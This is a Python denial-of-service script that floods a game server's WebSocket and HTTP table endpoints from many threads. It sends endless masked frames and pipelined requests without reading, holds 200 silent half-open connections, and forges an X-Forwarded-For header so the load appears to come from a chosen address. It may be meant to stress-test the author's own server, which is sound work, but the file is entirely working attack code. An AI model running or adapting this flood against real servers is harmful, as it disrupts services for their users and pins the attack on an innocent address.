"""An attacker as fast as it can be: `flood.py HOST:PORT GAME ADDRESS`, until it is killed.

Several threads open sockets and send frames without reading, ask over HTTP, and open connections that say nothing. The server is told,
as by a proxy, that all of it comes from ADDRESS. A line is printed once it has begun.
"""

import json
import os
import socket
import sys
import threading
import time
from collections.abc import Callable

FRAMES_AT_ONCE = 200
HALF_OPEN = 200  # connections that say nothing


def masked(text: str) -> bytes:
    """A frame of a client, as bytes."""
    body, key = text.encode(), os.urandom(4)
    assert 125 < len(body) < 65_536
    hidden = bytes(byte ^ key[place % 4] for place, byte in enumerate(body))
    return b"\x81\xfe" + len(body).to_bytes(2) + key + hidden


def flood_socket(server: tuple[str, int], game: str, address: str) -> None:
    """Open a socket and fill it, again and again."""
    head = (
        f"GET /api/tables/{game}/socket HTTP/1.1\r\nHost: {server[0]}:{server[1]}\r\nX-Forwarded-For: {address}\r\n"
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    )
    base = {"v": 1, "id": "a" * 40, "game": game, "ply": 0}
    hello, sync = (masked(json.dumps({**base, "type": type, "seat": None})) for type in ("hello", "sync"))
    with socket.create_connection(server, timeout=2) as one:
        one.sendall(head.encode())
        if b" 101 " not in one.recv(4096):
            return
        one.sendall(hello)
        while True:
            one.sendall(sync * FRAMES_AT_ONCE)


def flood_http(server: tuple[str, int], game: str, address: str) -> None:
    """Ask for a table again and again over one connection, reading nothing."""
    head = f"GET /api/tables/{game} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {address}\r\n\r\n".encode()
    with socket.create_connection(server, timeout=2) as one:
        while True:
            one.sendall(head * FRAMES_AT_ONCE)


def main() -> None:
    """Attack."""
    host, _, port = sys.argv[1].partition(":")
    server, game, address = (host, int(port)), *sys.argv[2:]

    def again(attack: Callable[[tuple[str, int], str, str], None]) -> None:
        while True:
            try:
                attack(server, game, address)
            except OSError:
                time.sleep(0.001)

    held = [socket.create_connection(server) for _ in range(HALF_OPEN)]
    for attack in (flood_socket, flood_socket, flood_socket, flood_http):
        threading.Thread(target=again, args=(attack,), daemon=True).start()
    print(f"{len(held)} connections are open", flush=True)
    time.sleep(3600)


if __name__ == "__main__":
    main()
